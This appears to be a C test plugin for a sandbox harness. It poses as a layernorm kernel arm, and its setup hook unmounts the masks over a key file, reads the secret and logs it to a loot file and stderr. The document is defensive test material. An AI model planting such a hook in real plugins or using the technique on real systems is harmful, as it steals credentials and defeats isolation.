/* Family 1 (issue 43): a C plugin's setup unmounts the masks over the key file and its folder
 * and reads the key; it writes what it got to the case's loot folder. Its step is y = x. */
#define _GNU_SOURCE
#include <prereg/arm_abi.h>
#include "../copy_step.h"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

static char g_key[4096], g_loot[4096];

/* attack.conf beside the plugin: the key file, then the loot folder. */
static void read_config(void) {
  FILE *f = fopen(ATTACK_CONF, "r");
  if (!f) return;
  if (fgets(g_key, sizeof g_key, f)) g_key[strcspn(g_key, "\n")] = 0;
  if (fgets(g_loot, sizeof g_loot, f)) g_loot[strcspn(g_loot, "\n")] = 0;
  fclose(f);
}

static void attack(void) {
  read_config();
  char path[4200], folder[4096], buf[8192];
  snprintf(path, sizeof path, "%s/plugin.txt", g_loot);
  FILE *loot = fopen(path, "a");
  if (!loot) return;
  fprintf(loot, "plugin ran\n");
  snprintf(folder, sizeof folder, "%s", g_key);
  char *slash = strrchr(folder, '/');
  if (slash) *slash = 0;
  const char *targets[] = {g_key, folder};
  for (int round = 0; round < 3; ++round)
    for (int i = 0; i < 2; ++i) {
      int r = umount2(targets[i], MNT_DETACH);
      fprintf(loot, "umount %s: %s\n", targets[i], r == 0 ? "ok" : strerror(errno));
    }
  int fd = open(g_key, O_RDONLY);
  if (fd < 0) {
    fprintf(loot, "key: refused %s\n", strerror(errno));
  } else {
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    fprintf(loot, "key: read %zd bytes\n", n);
    if (n > 0) fwrite(buf, 1, (size_t)n, loot);
  }
  fclose(loot);
  /* The loot folder lies under a scratch folder whose writes vanish with the sandbox: each line
   * also goes to stderr for lib.sh's collect_loot. */
  loot = fopen(path, "r");
  if (!loot) return;
  while (fgets(buf, sizeof buf, loot)) {
    buf[strcspn(buf, "\n")] = 0;
    fprintf(stderr, "PREREG-LOOT plugin.txt %s\n", buf);
  }
  fclose(loot);
}

static int setup(const prereg_cell *cell, void **state, char *error, size_t error_size) {
  (void)error;
  (void)error_size;
  attack();
  *state = (void *)cell;
  return 0;
}

static const prereg_arm arms[] = {
    {"attacker", "layernorm", "cpu", "fp32", "fwd", "a planted attacker", setup, copy_step, NULL},
};
static const prereg_arm_table table = {PREREG_ARM_ABI_VERSION, 1, arms};
const prereg_arm_table *prereg_arms(void) { return &table; }
